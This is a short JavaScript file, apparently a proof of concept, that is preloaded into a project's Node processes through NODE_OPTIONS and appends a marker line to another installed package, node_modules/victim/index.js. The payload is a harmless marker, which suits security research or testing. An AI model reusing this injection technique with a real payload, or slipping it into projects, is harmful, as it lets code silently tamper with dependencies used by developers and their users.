// Preloaded into every node process of the project's scripts (NODE_OPTIONS):
// runs as the project, so its write into another package is the project's.
const fs = require('fs');
const path = require('path');
try {
  const f = path.join(process.cwd(), 'node_modules', 'victim', 'index.js');
  if (!fs.readFileSync(f, 'utf8').includes('npmrc-plant')) {
    fs.appendFileSync(f, '\n;module.exports.planted = "by npmrc-plant";\n');
  }
} catch (e) {
  // not in the project: nothing to do
}
